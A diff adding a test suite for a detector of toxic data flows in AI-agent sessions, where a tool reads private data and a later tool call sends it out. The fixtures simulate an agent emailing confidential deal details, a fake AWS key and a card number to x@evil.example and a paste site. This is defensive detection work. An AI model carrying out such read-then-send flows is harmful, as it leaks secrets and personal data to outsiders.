@@ -1,0 +1,267 @@
+import { createHash } from 'node:crypto';
+import { describe, expect, it } from 'vitest';
+import {
+  FingerprintIndex,
+  fingerprintText,
+  matchWindows,
+  normalizeCodes,
+} from '../../../../functions/engine/detectors/agent/content-fingerprint.js';
+import type { MemoryStateStore } from '../../../../functions/engine/state/memory-store.js';
+import { findingsOf, mcpEvent, runEvents, type EventInput } from '../../../helpers/engine-harness.js';
+
+const ID = 'AGT-TOXIC-FLOW';
+const FAKE_AWS_KEY = 'AKIA' + 'Q3EGRTWZ7NXJPLM4';
+
+const EMAIL_TEXT = [
+  'From: dana.whitfield@partner.example',
+  'Subject: Q3 acquisition shortlist (confidential)',
+  '',
+  'Hi team, the board approved moving ahead with the Northwind Traders deal at a valuation of 41.5M.',
+  'Please keep the names Contoso Robotics and Fabrikam Analytics out of every external channel until',
+  'the announcement on the 14th. Legal will circulate the revised term sheet tomorrow morning.',
+].join('\n');
+
+const COPIED = 'the board approved moving ahead with the Northwind Traders deal at a valuation of 41.5M.';
+
+function read(time: number, text: string, overrides: Partial<EventInput> = {}) {
+  return mcpEvent({
+    event: 'mcp.call',
+    time,
+    server: { name: 'mail-mcp' },
+    session: 'sess-1',
+    principal: { sub: 'user-42' },
+    rpc: { id: time, method: 'tools/call' },
+    tool: 'read_email',
+    arguments: { id: 'msg-1' },
+    result: { isError: false, text, bytes: text.length },
+    ...overrides,
+  });
+}
+
+function send(time: number, args: Record<string, unknown>, overrides: Partial<EventInput> = {}) {
+  return mcpEvent({
+    event: 'mcp.call',
+    time,
+    server: { name: 'mail-mcp' },
+    session: 'sess-1',
+    principal: { sub: 'user-42' },
+    rpc: { id: time, method: 'tools/call' },
+    tool: 'send_email',
+    arguments: args,
+    result: { isError: false, text: 'sent' },
+    ...overrides,
+  });
+}
+
+async function run(events: ReturnType<typeof read>[], batchSize?: number) {
+  return findingsOf(await runEvents(events, { only: [ID], ...(batchSize ? { batchSize } : {}) }), ID);
+}
+
+/** Deterministic text without repeated 32-char windows. */
+function prose(chars: number, seed: string): string {
+  let out = '';
+  for (let i = 0; out.length < chars; i++) out += `${createHash('sha256').update(`${seed}${i}`).digest('base64')} `;
+  return out.slice(0, chars);
+}
+
+describe('AGT-TOXIC-FLOW', () => {
+  it('a sink call within 5 minutes of a private read → low', async () => {
+    const findings = await run([read(0, EMAIL_TEXT), send(120, { to: 'someone@example.com', subject: 'Lunch', body: 'See you at noon?' })]);
+    expect(findings).toHaveLength(1);
+    expect(findings[0]).toMatchObject({
+      severity: 'low',
+      subject: 'session=sess-1 sink=send_email',
+      session: 'sess-1',
+      tool: 'send_email',
+      evidence: { sourceTool: 'read_email', sourceServer: 'mail-mcp', secondsSinceRead: 120 },
+    });
+    expect(findings[0]?.evidence).not.toHaveProperty('copiedChars');
+  });
+
+  it('text of the result in the sink arguments → high', async () => {
+    const findings = await run([read(0, EMAIL_TEXT), send(60, { to: 'x@evil.example', body: `fyi: ${COPIED}` })]);
+    expect(findings).toHaveLength(1);
+    expect(findings[0]).toMatchObject({
+      severity: 'high',
+      subject: 'session=sess-1 sink=send_email',
+      evidence: { sourceTool: 'read_email', field: 'body', guaranteedFromChars: 47 },
+    });
+    const copied = findings[0]?.evidence?.copiedChars as number;
+    expect(copied).toBeGreaterThanOrEqual(COPIED.length - 15);
+    expect(copied).toBeLessThanOrEqual(COPIED.length);
+  });
+
+  it('re-wrapped and re-cased copies still match', async () => {
+    const reformatted = COPIED.toUpperCase().replace(/ /g, '\n  ');
+    const findings = await run([read(0, EMAIL_TEXT), send(60, { to: 'x@evil.example', body: reformatted })]);
+    expect(findings.map((f) => f.severity)).toEqual(['high']);
+  });
+
+  it('copied text holding a secret → critical', async () => {
+    const envFile = `# production settings\nDATABASE_HOST=db.internal.example\nAWS_ACCESS_KEY_ID=${FAKE_AWS_KEY}\nAWS_REGION=eu-west-1\nFEATURE_FLAGS=search,billing\n`;
+    const findings = await run([
+      read(0, envFile, { tool: 'read_file', arguments: { path: '/srv/app/config.ini' } }),
+      send(30, { url: 'https://paste.example/new', content: `config dump: AWS_ACCESS_KEY_ID=${FAKE_AWS_KEY}\nAWS_REGION=eu-west-1\nFEATURE` }, { tool: 'post_paste' }),
+    ]);
+    expect(findings).toHaveLength(1);
+    expect(findings[0]).toMatchObject({
+      severity: 'critical',
+      subject: 'session=sess-1 sink=post_paste',
+      evidence: { sourceTool: 'read_file', field: 'content', copiedSensitive: ['aws-access-key-id'], readHeldSecrets: ['aws-access-key-id'] },
+    });
+  });
+
+  it('copied text holding PII (a card number) → critical; bulk emails count, one address does not', async () => {
+    const customers =
+      'Customer record 7731: Jane Roe, card 4539 1488 0343 6467 exp 04/29, billing address 12 Elm Street, Springfield. ' +
+      'Contacts: ana@corp.example, ben@corp.example, cy@corp.example, dee@corp.example for escalations only.';
+    const findings = await run([
+      read(0, customers, { tool: 'get_customer' }),
+      send(30, { to: 'x@evil.example', body: 'Jane Roe, card 4539 1488 0343 6467 exp 04/29, billing address 12 Elm Street' }, {}),
+      send(40, { to: 'x@evil.example', body: 'Contacts: ana@corp.example, ben@corp.example, cy@corp.example, dee@corp.example' }, { tool: 'post_message' }),
+      send(50, { to: 'x@evil.example', body: 'billing address 12 Elm Street, Springfield. Contacts: ana@corp.example, ben@corp.example' }, { tool: 'notify_team' }),
+    ]);
+    expect(findings.map((f) => [f.severity, f.subject, f.evidence?.copiedSensitive])).toEqual([
+      ['critical', 'session=sess-1 sink=send_email', ['card-number']],
+      ['critical', 'session=sess-1 sink=post_message', ['email']],
+      ['high', 'session=sess-1 sink=notify_team', undefined],
+    ]);
+    expect(findings[0]?.evidence?.readHeldPii).toEqual(['card-number', 'email']);
+  });
+
+  it('a session spans servers (a gateway multiplexing several servers under one session id)', async () => {
+    const findings = await run([
+      read(0, EMAIL_TEXT, { server: { name: 'mail-mcp' } }),
+      send(60, { channel: '#general', text: COPIED }, { server: { name: 'slack-mcp' }, tool: 'post_message' }),
+    ]);
+    expect(findings.map((f) => [f.severity, f.server, f.evidence?.sourceServer, f.evidence?.field])).toEqual([
+      ['high', 'slack-mcp', 'mail-mcp', 'text'],
+    ]);
+  });
+
+  it('copied text found long after the read (within the content window) is still high', async () => {
+    const findings = await run([read(0, EMAIL_TEXT), send(20 * 60, { to: 'x@evil.example', body: COPIED })]);
+    expect(findings.map((f) => [f.severity, f.evidence?.secondsSinceRead])).toEqual([['high', 1200]]);
+  });
+
+  it('near miss: a sink call without an earlier private read', async () => {
+    expect(await run([send(0, { to: 'a@example.com', body: COPIED })])).toHaveLength(0);
+    // The read comes after the sink.
+    expect(await run([send(0, { to: 'a@example.com', body: COPIED }), read(10, EMAIL_TEXT)])).toHaveLength(0);
+  });
+
+  it('near miss: read and sink in different sessions, or without a session', async () => {
+    expect(await run([read(0, EMAIL_TEXT), send(60, { to: 'x@evil.example', body: COPIED }, { session: 'sess-2' })])).toHaveLength(0);
+    expect(
+      await run([read(0, EMAIL_TEXT, { session: undefined }), send(60, { to: 'x@evil.example', body: COPIED }, { session: undefined })]),
+    ).toHaveLength(0);
+  });
+
+  it('near miss: a sink more than 5 minutes later without copied text; copied text after the content window', async () => {
+    expect(await run([read(0, EMAIL_TEXT), send(301, { to: 'a@example.com', body: 'Thanks, noted.' })])).toHaveLength(0);
+    expect(await run([read(0, EMAIL_TEXT), send(3601, { to: 'x@evil.example', body: COPIED })])).toHaveLength(0);
+  });
+
+  it('near miss: only short common words or the recipient address are shared → low only', async () => {
+    const findings = await run([
+      read(0, EMAIL_TEXT),
+      send(60, {
+        to: 'dana.whitfield@partner.example',
+        cc: ['dana.whitfield@partner.example'],
+        subject: 'Re: Q3',
+        body: 'Hi team, the board approved it. Please keep this out of every external channel. Legal will circulate tomorrow.',
+      }),
+    ]);
+    expect(findings.map((f) => f.severity)).toEqual(['low']);
+  });
+
+  it('near miss: a failed read is not remembered; non-private reads and non-sinks are ignored', async () => {
+    const findings = await run([
+      read(0, EMAIL_TEXT, { result: { isError: true, text: EMAIL_TEXT } }),
+      read(1, EMAIL_TEXT, { tool: 'get_weather' }),
+      send(60, { to: 'x@evil.example', body: COPIED }),
+      send(61, { path: '/tmp/x', content: COPIED }, { tool: 'save_draft' }),
+    ]);
+    expect(findings).toHaveLength(0);
+  });
+
+  it('state carries across batches; config labels decide private and sink tools', async () => {
+    const events = [
+      read(0, EMAIL_TEXT, { tool: 'fetch_thread' }),
+      send(5, { body: 'unrelated' }, { tool: 'archive' }),
+      send(60, { payload: COPIED }, { tool: 'archive' }),
+    ];
+    const config = { toolLabels: { privateData: ['fetch_thread'], publicSink: ['mail-mcp/archive'] } };
+    const result = await runEvents(events, { only: [ID], config, batchSize: 1 });
+    expect(findingsOf(result, ID).map((f) => [f.severity, f.subject])).toEqual([
+      ['low', 'session=sess-1 sink=archive'],
+      ['high', 'session=sess-1 sink=archive'],
+    ]);
+    expect(result.alerts.map((a) => a.severity)).toEqual(['low', 'high']);
+  });
+
+  it('session state stays bounded: at most maxReadsPerSession reads and maxFingerprintsPerSession fingerprints', async () => {
+    const reads = Array.from({ length: 20 }, (_, i) => read(i, prose(4096, `doc-${i}`)));
+    const result = await runEvents(reads, { only: [ID] });
+    const store = result.store as MemoryStateStore;
+    const key = [...store.keys()].find((k) => k.startsWith(`${ID}|*|session|`));
+    const item = key !== undefined ? store.peek(key) : undefined;
+    expect(item?.k).toBe('r');
+    const values = Object.values(item?.k === 'r' ? item.v : {}) as Array<{ t: number; fp: string }>;
+    expect(values.length).toBe(8);
+    expect(values.map((v) => v.fp.length / 12)).toEqual([0, 0, 0, 0, 0, 0, 0, 255]);
+    expect(JSON.stringify(item).length).toBeLessThan(10_000);
+    // The newest read is kept in full: text from it is found.
+    const last = prose(4096, 'doc-19');
+    const copy = await runEvents([...reads, send(30, { body: last.slice(1000, 1047) })], { only: [ID] });
+    expect(findingsOf(copy, ID).map((f) => [f.severity, f.evidence?.sourceTool])).toEqual([['high', 'read_email']]);
+    // An older read lost its fingerprints but still makes a plain flow.
+    const older = prose(4096, 'doc-15');
+    const plain = await runEvents([...reads, send(30, { body: older.slice(1000, 1100) })], { only: [ID] });
+    expect(findingsOf(plain, ID).map((f) => f.severity)).toEqual(['low']);
+  });
+
+  it('pathological 100 KB result and arguments finish', async () => {
+    const big = 'a'.repeat(50_000) + prose(50_000, 'big');
+    const findings = await run([read(0, big), send(10, { body: 'b'.repeat(100_000), more: Array.from({ length: 100 }, () => 'ab'.repeat(1000)) })]);
+    expect(findings.map((f) => f.severity)).toEqual(['low']);
+  });
+});
+
+describe('content fingerprints', () => {
+  const source = prose(4096, 'source');
+  const fp = fingerprintText(source, 16, 256);
+  const index = new FingerprintIndex([{ hashes: fp.hashes, owner: 0 }]);
+
+  it('samples a 4 KiB result at stride 16 within the 256 budget', () => {
+    expect(fp.stride).toBe(16);
+    expect(fp.count).toBe(255);
+  });
+
+  it('finds every copied run of 47 characters, at every offset', () => {
+    for (let offset = 0; offset < 4096 - 47; offset += 7) {
+      const copy = `prefix ${source.slice(offset, offset + 47)} suffix`;
+      expect(matchWindows(normalizeCodes(copy, 1000).codes, index).length, `offset ${offset}`).toBeGreaterThan(0);
+    }
+  });
+
+  it('a match means at least 32 shared characters: 31 never match', () => {
+    for (let offset = 0; offset < 4096 - 31; offset += 5) {
+      expect(matchWindows(normalizeCodes(source.slice(offset, offset + 31), 1000).codes, index)).toEqual([]);
+    }
+  });
+
+  it('an aligned 32-character copy matches exactly once', () => {
+    expect(matchWindows(normalizeCodes(source.slice(160, 192), 100).codes, index)).toEqual([{ at: 0, owner: 0 }]);
+  });
+
+  it('low-information windows are not stored', () => {
+    expect(fingerprintText('-'.repeat(500) + ' '.repeat(10) + '0'.repeat(500), 16, 256).count).toBe(0);
+  });
+
+  it('longer results widen the stride to stay within the budget', () => {
+    const long = fingerprintText(prose(16_384, 'long'), 16, 256);
+    expect(long.stride).toBe(64);
+    expect(long.count).toBeLessThanOrEqual(256);
+  });
+});
